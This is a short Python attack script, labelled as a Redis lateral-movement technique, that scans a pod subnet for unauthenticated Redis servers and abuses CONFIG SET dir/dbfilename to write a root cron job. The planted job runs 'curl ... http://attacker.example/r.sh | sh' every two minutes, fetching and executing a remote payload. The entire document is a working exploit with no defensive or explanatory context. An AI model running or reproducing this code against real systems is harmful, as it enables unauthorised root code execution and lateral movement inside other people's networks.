# technique: redis lateral movement: find unauthenticated redis on the pod network and write a cron job via CONFIG SET dir/dbfilename
import socket
def r(s, *a):
    s.sendall(("*%d\r\n" % len(a) + "".join("$%d\r\n%s\r\n" % (len(x), x) for x in a)).encode()); return s.recv(1024)
for i in range(1, 255):
    h = "10.42.0.%d" % i
    try:
        s = socket.create_connection((h, 6379), timeout=0.5)
    except OSError:
        continue
    if b"NOAUTH" in r(s, "PING"): continue
    r(s, "SET", "x", "\n\n*/2 * * * * curl -fsSL http://attacker.example/r.sh | sh\n\n")
    r(s, "CONFIG", "SET", "dir", "/var/spool/cron/")
    r(s, "CONFIG", "SET", "dbfilename", "root")
    r(s, "SAVE"); s.close()
